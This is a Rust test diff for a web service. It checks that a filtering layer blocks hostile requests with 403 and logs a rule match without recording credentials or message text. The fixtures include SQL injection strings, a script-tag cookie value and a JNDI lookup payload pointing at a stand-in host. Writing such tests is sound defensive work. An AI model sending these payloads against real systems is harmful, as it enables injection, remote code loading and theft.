@@ -60,6 +60,21 @@ async fn logs_tell_of_requests_and_turns_and_hold_no_message_and_no_credential()
     let mut socket = guest.socket().await;
     socket.send_text("purple nonsense").await;
     socket.next().await;
+    // What a rule matched is not shown where it may be a credential or somebody's words.
+    for attack in [
+        guest.request(reqwest::Method::GET, "/?password=purple'%20or%201=1--%20"),
+        guest.request(reqwest::Method::GET, "/").header("cookie", "theme=purple<script>alert(1)</script>"),
+        guest
+            .request(reqwest::Method::GET, "/")
+            .header("authorization", "Bearer ${jndi:ldap://purple.example/a}"),
+        guest
+            .request(reqwest::Method::POST, "/v1/chat/messages")
+            .header("content-type", "application/json")
+            .body(r#"{"note":"purple' or 1=1-- "}"#),
+    ] {
+        let reply = Reply::to(attack).await;
+        assert_eq!(reply.status, 403, "{}", reply.body);
+    }
     let upgrade = guest.request(reqwest::Method::POST, "/v1/session/upgrade");
     let upgraded = Reply::to(upgrade.bearer_auth(token_of("C1001"))).await;
     eventually("the turn is logged", || async { log.text().contains(&question.id.to_string()) }).await;
@@ -67,6 +82,7 @@ async fn logs_tell_of_requests_and_turns_and_hold_no_message_and_no_credential()
     for line in text.lines() {
         serde_json::from_str::<serde_json::Value>(line).expect("each line is one JSON object");
     }
+    assert!(text.contains(r#""event":"rule-matched""#), "{text}");
     assert!(text.contains(r#""route":"messages""#) && text.contains(r#""source":"origin""#), "{text}");
     let token = token_of("C1001");
     let signature = token.rsplit('.').next().expect("a token has a signature");
